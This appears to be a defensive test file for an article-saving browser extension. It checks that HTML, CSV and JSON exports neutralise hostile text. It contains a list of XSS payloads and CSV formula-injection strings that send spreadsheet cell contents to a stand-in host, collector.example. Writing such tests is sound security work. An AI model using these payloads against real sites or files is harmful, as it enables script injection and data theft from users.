/** Whatever an article says, what is saved of it is text: in HTML, in CSV. As the extension saves it, through WebAssembly. */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { JSDOM } from "jsdom";
import { startModules } from "./modules.ts";

const ATTACKS = [
  `<script>pwned = 1</script>`,
  `<img src=x onerror="pwned = 1">`,
  `"><svg onload=pwned=1>`,
  `' onmouseover='pwned = 1`,
  `</style><script>pwned = 1</script>`,
  `</title></textarea></iframe><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>`,
  `<!--`,
  `]]><a href="javascript:pwned=1">`,
  `&lt;script&gt;`,
  `\u202e<b>\u2066`,
];
const FORMULAS = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"].map((opening) => `${opening}HYPERLINK("https://collector.example/?q="&A1)`);

const articleWith = (words: string) =>
  `${words} قرض جديد\nقال وزير النقل سامر ${words} الحلبي إن الحكومة خصصت 3 ملايين دينار ${words} لترميم الموانئ.\n${words} أعلنت وزارة النقل أن المشروع سيكلف 5 ملايين دينار، وفق ${words} بيان لها.`;

describe("hostile articles", () => {
  const { engine, reports, pages } = startModules("utf16");
  const detailsOf = (words: string) => ({ title: words, address: words, date: words });

  /** What a browser would make of it: elements that do something, and where links lead. */
  const harmIn = (html: string) => {
    const { window } = new JSDOM(html, { runScripts: "dangerously" });
    const all = [...window.document.querySelectorAll("*")];
    return {
      ran: "pwned" in window,
      elements: all.filter(({ localName }) => ["script", "img", "iframe", "object", "embed", "base", "form", "b"].includes(localName)).map(({ outerHTML }) => outerHTML),
      handlers: all.flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on"))),
      links: all.map((one) => one.getAttribute("href") ?? "").filter((href) => href !== "" && !href.startsWith("#")),
    };
  };
  const HARMLESS = { ran: false, elements: [], handlers: [], links: [] };

  test("the check finds harm where words are markup", () => {
    for (const words of ATTACKS.slice(0, 3)) assert.notDeepEqual(harmIn(`<!doctype html><title>${words}</title><p title="${words}">${words}</p>`), HARMLESS, words);
  });

  for (const words of ATTACKS) {
    test(`HTML: ${words}`, () => {
      const text = articleWith(words);
      const analysis = engine.analyze(text);
      assert.ok(analysis.claims.length > 0);
      const one = { text, analysis, title: words };
      for (const locale of ["ar", "en"] as const) {
        assert.deepEqual(harmIn(pages.reportFile(text, analysis, locale, detailsOf(words))), HARMLESS);
        assert.deepEqual(harmIn(reports.html(text, analysis, locale)), HARMLESS);
        assert.deepEqual(harmIn(pages.compareFile(one, one, locale)), HARMLESS);
        assert.deepEqual(harmIn(pages.worksheet(text, analysis, locale, { title: words, questions: [words] })), HARMLESS);
      }
    });
  }

  test("CSV: no cell begins as a formula does", () => {
    for (const words of FORMULAS) {
      const text = articleWith(words);
      const csv = pages.export(text, engine.analyze(text), "csv", "ar", detailsOf(words));
      // Cells as RFC 4180 has them.
      const cells = [...csv.slice(1).matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^",\r\n]*)/g)].map(([, cell]) => cell!.replace(/^"|"$/g, "").replaceAll('""', '"'));
      assert.ok(cells.some((cell) => cell.includes("HYPERLINK")));
      assert.deepEqual(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell)), []);
    }
  });

  test("JSON and annotations are data: what went in comes out", () => {
    for (const words of [...ATTACKS, ...FORMULAS]) {
      const text = articleWith(words);
      const analysis = engine.analyze(text);
      assert.equal(JSON.parse(pages.export(text, analysis, "json", "ar", detailsOf(words))).text, text);
      assert.ok(JSON.parse(pages.export(text, analysis, "annotation", "ar", detailsOf(words))).total > 0);
    }
  });
});
